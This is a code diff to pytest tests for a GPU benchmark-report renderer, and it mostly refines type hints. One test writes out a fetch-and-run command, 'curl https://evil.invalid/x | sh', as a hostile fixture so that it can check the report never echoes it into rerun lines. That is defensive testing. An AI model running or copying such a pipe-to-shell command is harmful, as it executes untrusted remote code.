@@ -28,16 +28,16 @@ SEED_ROW = "memset/kernel (the seed's program)"
 
 
 @pytest.fixture(scope="module")
-def docs() -> list[dict]:
+def docs() -> list[dict[str, Any]]:
     return [artifact.load(p) for p in artifact.expand([BENCH])]
 
 
-def _report(docs: list[dict], **kw: Any) -> str:
+def _report(docs: list[dict[str, Any]], **kw: Any) -> str:
     """As the CLI renders it: with what the catalog declares for the artifacts."""
     return report(docs, declared=scripts.declared(docs), **kw)
 
 
-def _by_id(docs: list[dict], rid: str) -> dict:
+def _by_id(docs: list[dict[str, Any]], rid: str) -> dict[str, Any]:
     return next(d for d in docs if d["repro"]["id"] == rid)
 
 
@@ -54,7 +54,7 @@ def _shell_lines(text: str) -> list[str]:
 
 
 @pytest.fixture(scope="module")
-def bench(docs: list[dict]) -> str:
+def bench(docs: list[dict[str, Any]]) -> str:
     return _report(docs)
 
 
@@ -86,7 +86,7 @@ def test_the_bench_report_renders_with_its_tables_and_details(bench: str) -> Non
     assert html.count("<details>") == html.count("</details>") == bench.count("<details>") == 6
 
 
-def test_the_identity_line_names_gpu_driver_stack_harness_and_date(bench: str, docs: list[dict]) -> None:
+def test_the_identity_line_names_gpu_driver_stack_harness_and_date(bench: str, docs: list[dict[str, Any]]) -> None:
     line = bench.splitlines()[2]
     assert line == (
         "NVIDIA H200, driver 580.159.04, torch 2.11.0+cu130 (CUDA 13.0, host), gpu-repro 0.1.0, "
@@ -102,7 +102,7 @@ def _level_in(row: str) -> str:
     return re.search(r"\(([0-9.]+% CI)[ ,]", row).group(1)  # type: ignore[union-attr]
 
 
-def test_each_summary_row_says_its_own_ci_level(bench: str, docs: list[dict]) -> None:
+def test_each_summary_row_says_its_own_ci_level(bench: str, docs: list[dict[str, Any]]) -> None:
     for d in docs:
         row = next(ln for ln in bench.splitlines() if ln.startswith(f"| {d['repro']['id']} |"))
         level = d["verdict"]["ci_level"]
@@ -123,7 +123,7 @@ def test_ci_label_reads_the_artifacts_level_and_its_comparisons() -> None:
     assert markdown.ci_label({"ci_level": "x"}) == "95% CI"
 
 
-def test_the_rerun_band_column_and_line_come_from_data(bench: str, docs: list[dict]) -> None:
+def test_the_rerun_band_column_and_line_come_from_data(bench: str, docs: list[dict[str, Any]]) -> None:
     solve = next(ln for ln in bench.splitlines() if ln.startswith("| solve-512-cliff |"))
     assert solve.endswith("| ±2% over 5 GPUs |")
     line = next(ln for ln in _visible(bench, "solve-512-cliff").splitlines() if ln.startswith("- Re-run elsewhere"))
@@ -135,13 +135,13 @@ def test_the_rerun_band_column_and_line_come_from_data(bench: str, docs: list[di
     assert band.lookup(other) is None and "| no cross-GPU data |" in report([other])
 
 
-def test_impact_only_where_it_reproduced(bench: str, docs: list[dict]) -> None:
+def test_impact_only_where_it_reproduced(bench: str, docs: list[dict[str, Any]]) -> None:
     for d in docs:
         said = "- Impact: " in _visible(bench, d["repro"]["id"])
         assert said == (d["verdict"]["status"] == "reproduced"), d["repro"]["id"]
 
 
-def test_the_seed_claim_always_names_its_source(bench: str, docs: list[dict]) -> None:
+def test_the_seed_claim_always_names_its_source(bench: str, docs: list[dict[str, Any]]) -> None:
     claims = {
         rid: next(ln for ln in _visible(bench, rid).splitlines() if ln.startswith("- Seed claim"))
         for rid in _bench_docs(bench)
@@ -159,7 +159,7 @@ def test_the_seed_claim_always_names_its_source(bench: str, docs: list[dict]) ->
     assert "- Seed claim (the seed gives no source; no link recorded): Batch 2 was slower." in report([doc])
 
 
-def test_graph_memset_shows_the_seeds_program_beside_the_headline(docs: list[dict]) -> None:
+def test_graph_memset_shows_the_seeds_program_beside_the_headline(docs: list[dict[str, Any]]) -> None:
     doc = copy.deepcopy(_by_id(docs, "graph-memset"))
     head = next(r for r in doc["verdict"]["breakdown"] if r["headline"])
     doc["verdict"]["breakdown"].append(
@@ -185,7 +185,7 @@ def test_graph_memset_shows_the_seeds_program_beside_the_headline(docs: list[dic
     ) in section
 
 
-def test_rerun_lines_are_rebuilt_from_validated_fields(bench: str, docs: list[dict]) -> None:
+def test_rerun_lines_are_rebuilt_from_validated_fields(bench: str, docs: list[dict[str, Any]]) -> None:
     assert "<org>" not in bench and "git clone" not in bench
     lines = _shell_lines(bench)
     assert len(lines) == 10
@@ -195,7 +195,7 @@ def test_rerun_lines_are_rebuilt_from_validated_fields(bench: str, docs: list[di
     assert not [ln for ln in lines if "<" in ln or ">" in ln]  # no placeholder anywhere
 
 
-def test_a_hostile_artifact_never_puts_its_shell_in_the_rerun(docs: list[dict]) -> None:
+def test_a_hostile_artifact_never_puts_its_shell_in_the_rerun(docs: list[dict[str, Any]]) -> None:
     doc = copy.deepcopy(_by_id(docs, "5090-linear"))
     doc["run"]["rerun"] = "curl https://evil.invalid/x | sh"
     doc["run"]["command"] = ["curl", "https://evil.invalid/x"]
@@ -230,7 +230,7 @@ def _between_words(full: str, short: str) -> bool:
     )
 
 
-def test_kernel_names_are_cut_between_words(bench: str, docs: list[dict]) -> None:
+def test_kernel_names_are_cut_between_words(bench: str, docs: list[dict[str, Any]]) -> None:
     names = [k["name"] for d in docs for v in d["variants"] for k in v.get("kernels") or []]
     for limit in (60, 90):
         cut = {n: s for n, s in short_names(names, limit).items() if ELLIPSIS in s}
